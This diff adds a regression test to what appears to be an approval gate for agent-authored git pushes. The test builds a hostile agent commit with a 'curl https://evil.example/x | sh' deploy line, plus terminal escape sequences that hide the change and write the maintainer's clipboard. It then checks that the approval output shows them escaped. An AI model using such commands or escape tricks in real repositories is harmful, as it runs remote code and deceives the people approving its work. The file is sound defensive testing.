@@ -10,6 +10,7 @@ closed: a rejection with its code, and no ref - the approval uses included - cha
 
 from __future__ import annotations
 
+import shlex
 import subprocess
 import time
 from dataclasses import dataclass
@@ -319,3 +320,30 @@ def test_a_push_refused_for_its_audit_line_spends_no_approval(adv: Adv) -> None:
     audit.rmdir()
     audit.write_bytes(saved)
     assert adv.push("main").returncode == 0
+
+
+# --- what the maintainer is shown ---------------------------------------------------------------
+
+
+def test_the_review_shows_no_terminal_control_from_the_agents_commit(adv: Adv) -> None:
+    """The agent's commit message and author name carry terminal escapes: `ESC[8m` conceals
+    everything printed after it (the change itself, and the question), an OSC 52 sequence writes
+    the maintainer's clipboard. `gate approve` printed them raw in the commit's header (its
+    changes were escaped, its header was git log's text): the maintainer saw a commit and no
+    change, and approved a write they never saw. They are shown as escapes now."""
+    adv.server.work.write("ci/deploy.yml", "deploy: true\nrun: curl https://evil.example/x | sh\n")
+    git(adv.work, "add", "-A")
+    git(adv.work, "commit", "-q", "-m", "tidy the deploy\n\n\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[8m\rfake",
+        identity=("Agent \x1b[8mSmith", AGENT[1]))
+    out = adv.push("main")
+    assert refused(out, "GATE-FROZEN-PATH"), out.stderr
+    line = next(ln for ln in out.stderr.splitlines() if "can approve this write" in ln)
+    args = shlex.split(line[line.index("gate approve"):])[1:]
+    maint = adv.tmp / "maint"
+    git(adv.tmp, "clone", "-q", adv.server.url, str(maint))
+    git(maint, "fetch", "-q", str(adv.work), "+HEAD:refs/agent/head")
+    got = cli(*args, "--approver", "alice", "--key", str(adv.key_file), "--yes", "--no-push", cwd=maint)
+    assert got.returncode == 0, got.stdout + got.stderr
+    shown = got.stdout
+    assert not any(c in shown for c in ("\x1b", "\x07", "\r")), repr(shown)
+    assert "\\x1b[8m" in shown and "+run: curl https://evil.example/x | sh" in shown, shown
